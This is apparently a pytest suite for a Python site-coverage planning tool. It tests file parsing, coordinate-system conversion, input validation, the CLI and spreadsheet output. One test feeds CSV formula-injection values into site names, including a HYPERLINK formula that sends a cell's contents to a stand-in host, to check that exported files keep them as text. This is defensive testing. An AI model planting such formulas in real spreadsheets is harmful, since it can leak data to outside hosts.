"""Plain planning instances from files: reading, bad input, CLI end to end."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pytest

from sharpeyes._errors import InputError
from sharpeyes.model.crs import wgs84_to_gcj02
from sharpeyes.planning.io import (
    candidates_from_file,
    demand_from_file,
    write_plan,
)
from sharpeyes.planning.plans import plan_points

# Tieling-ish coordinates. One degree of longitude at 42.3°N is about 82.4 km, so 0.001° ≈ 82 m.
LON0, LAT0 = 123.84, 42.29


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    # Hand instance (radius 100 m): demand a, b near A (weights 5, 3), c near B (4), d near C (1).
    # By hand, budget 2: A (8) + B (4) = 12 is optimal.
    demand = _write(
        tmp_path / "demand.csv",
        "lon,lat,weight\n"
        f"{LON0},{LAT0},5\n"
        f"{LON0 + 0.0005},{LAT0},3\n"
        f"{LON0 + 0.01},{LAT0 + 0.01},4\n"
        f"{LON0 + 0.02},{LAT0 + 0.02},1\n",
    )
    cands = _write(
        tmp_path / "candidates.csv",
        "id,lon,lat\n"
        f"A,{LON0 + 0.0002},{LAT0}\n"
        f"B,{LON0 + 0.01},{LAT0 + 0.0101}\n"
        f"C,{LON0 + 0.02},{LAT0 + 0.0201}\n",
    )
    return demand, cands


def test_plan_points_hand_instance(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, cands = files
    result = plan_points(
        demand_from_file(demand), candidates_from_file(cands), budget=2, radius_m=100
    )
    doc = result.document()
    assert doc["selected"] == ["A", "B"]
    assert doc["covered_weight"] == 12.0
    assert doc["total_weight"] == 13.0
    assert doc["status"] == "optimal"
    assert [c["covered_weight"] for c in doc["curve"]] == [0.0, 8.0, 12.0]
    written = write_plan(result, tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(written["xlsx"])
    assert book.sheetnames == ["规划点位", "覆盖曲线", "指标对比"]
    header = [c.value for c in book["规划点位"][1]]
    assert header[:2] == ["建设顺序", "候选点编号"]
    assert Path(written["curve_png"]).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    geo = json.loads(Path(write_plan(result, tmp_path / "plan.geojson")["geojson"]).read_text())
    assert [f["properties"]["id"] for f in geo["features"]] == ["A", "B"]
    assert geo["plan"]["covered_weight"] == 12.0


def test_gcj02_candidate_file_is_converted(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, _ = files
    wgs = np.array([[LON0 + 0.0002, LAT0], [LON0 + 0.01, LAT0 + 0.0101]])
    glon, glat = wgs84_to_gcj02(wgs[:, 0], wgs[:, 1])
    # the GCJ-02 offset here is several hundred metres: read as WGS-84 the sites would miss
    gcj = _write(
        tmp_path / "gcj.csv",
        "id,经度,纬度\n"
        + "".join(f"{n},{x:.9f},{y:.9f}\n" for n, x, y in zip("AB", glon, glat, strict=False)),
    )
    sites = candidates_from_file(gcj, crs="gcj02")
    assert np.allclose(sites.geometry.x, wgs[:, 0], atol=1e-6)
    assert np.allclose(sites.geometry.y, wgs[:, 1], atol=1e-6)
    right = plan_points(demand_from_file(demand), sites, budget=2, radius_m=100)
    assert right.covered_weight == 12.0
    wrong = plan_points(demand_from_file(demand), candidates_from_file(gcj), budget=2, radius_m=100)
    assert wrong.covered_weight == 0.0


def test_duplicate_sites_dropped_and_duplicate_ids_refused(tmp_path: Path) -> None:
    dup_site = _write(
        tmp_path / "c.csv", f"id,lon,lat\nA,{LON0},{LAT0}\nB,{LON0},{LAT0}\nC,{LON0 + 1},{LAT0}\n"
    )
    sites = candidates_from_file(dup_site)
    assert sites["id"].tolist() == ["A", "C"]
    assert sites.attrs["duplicates"] == [{"id": "B", "row": 3, "same_as": "A"}]
    dup_id = _write(tmp_path / "d.csv", f"id,lon,lat\nA,{LON0},{LAT0}\nA,{LON0 + 1},{LAT0}\n")
    with pytest.raises(InputError) as err:
        candidates_from_file(dup_id)
    assert err.value.row == 3 and err.value.field == "id" and "d.csv" in str(err.value)


@pytest.mark.parametrize(
    ("text", "row", "field"),
    [
        ("lon,lat,weight\n123.8,42.3,1\n123.8,42.3,-2\n", 3, "weight"),
        ("lon,lat,weight\n123.8,42.3,1\n123.8,x,2\n", 3, "lat"),
        ("lon,lat,weight\n123.8,42.3,0\n123.9,42.3,0\n", None, "weight"),
        ("lon,lat\n123.8,42.3\n", None, "weight"),
        ("lon,lat,weight\n4238000,512000,1\n", 2, "lon"),
    ],
)
def test_bad_demand_names_file_row_field(
    tmp_path: Path, text: str, row: int | None, field: str
) -> None:
    path = _write(tmp_path / "demand.csv", text)
    with pytest.raises(InputError) as err:
        demand_from_file(path)
    assert err.value.row == row
    assert err.value.field == field
    assert err.value.file == str(path)


def test_zero_weight_points_are_kept_and_noted(files: tuple[Path, Path], tmp_path: Path) -> None:
    _, cands = files
    path = _write(
        tmp_path / "d0.csv", f"lon,lat,weight\n{LON0},{LAT0},2\n{LON0 + 0.01},{LAT0 + 0.01},0\n"
    )
    result = plan_points(
        demand_from_file(path), candidates_from_file(cands), budget=1, radius_m=100
    )
    assert result.document()["selected"] == ["A"]
    assert any("weight 0" in n for n in result.notes)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sharpeyes", *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_cli_plain_instance_json(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, cands = files
    out = tmp_path / "plan.csv"
    proc = _cli(
        "plan", "--demand", str(demand), "--candidates", str(cands), "--budget", "2",
        "--radius-m", "100", "-o", str(out), "--exact", "--json",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["selected"] == ["A", "B"]
    assert doc["covered_weight"] == 12.0 and doc["total_weight"] == 13.0
    assert doc["status"] == "optimal"
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("rank,id,")
    assert lines[1].startswith("1,A,")
    assert (tmp_path / "plan_curve.png").exists()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--budget", "0"], "budget must be at least 1"),
        (["--budget", "2", "--crs", "mars"], "unknown coordinate system"),
    ],
)
def test_cli_bad_input_one_line_error(
    files: tuple[Path, Path], tmp_path: Path, extra: list[str], message: str
) -> None:
    demand, cands = files
    proc = _cli(
        "plan", "--demand", str(demand), "--candidates", str(cands), "--radius-m", "100",
        "-o", str(tmp_path / "p.csv"), "--json", *extra,
    )  # fmt: skip
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert message in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 or "error" in proc.stderr.splitlines()[-1]


def test_cli_budget_above_candidates_noted(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, cands = files
    proc = _cli(
        "plan", "--demand", str(demand), "--candidates", str(cands), "--budget", "50",
        "--radius-m", "100", "-o", str(tmp_path / "p.geojson"), "--json",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["covered_weight"] == 13.0
    assert any("larger than the 3 candidates" in n for n in doc["notes"])


def test_cost_budget_plain_instance(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, _ = files
    # A (cost 5) covers 8, B (cost 2) covers 4, C (cost 2) covers 1; cost budget 4 -> B + C = 5,
    # by hand the best that fits (A alone does not fit).
    cands = _write(
        tmp_path / "costed.csv",
        "id,lon,lat,cost\n"
        f"A,{LON0 + 0.0002},{LAT0},5\n"
        f"B,{LON0 + 0.01},{LAT0 + 0.0101},2\n"
        f"C,{LON0 + 0.02},{LAT0 + 0.0201},2\n",
    )
    proc = _cli(
        "plan", "--demand", str(demand), "--candidates", str(cands), "--budget-cost", "4",
        "--radius-m", "100", "-o", str(tmp_path / "p.csv"), "--json",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["selected"] == ["B", "C"]
    assert doc["covered_weight"] == 5.0
    assert doc["solver"]["cost"] == 4.0


def test_formula_in_a_site_name_stays_text(files: tuple[Path, Path], tmp_path: Path) -> None:
    demand, _ = files
    cands = _write(
        tmp_path / "named.csv",
        "id,lon,lat,name\n"
        f'A,{LON0 + 0.0002},{LAT0},"=HYPERLINK(""http://x.example/""&A2,""click"")"\n'
        f"B,{LON0 + 0.01},{LAT0 + 0.0101},@SUM(A1:A9)\n",
    )
    result = plan_points(
        demand_from_file(demand), candidates_from_file(cands), budget=2, radius_m=100
    )
    book = openpyxl.load_workbook(write_plan(result, tmp_path / "plan.xlsx")["xlsx"])
    sheet = book["规划点位"]
    header = [c.value for c in sheet[1]]
    names = [row[header.index("点位名称")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in names] == ['=HYPERLINK("http://x.example/"&A2,"click")', "@SUM(A1:A9)"]
    assert all(c.data_type == "s" for c in names)
    text = Path(write_plan(result, tmp_path / "plan.csv")["csv"]).read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(A1:A9)" in text
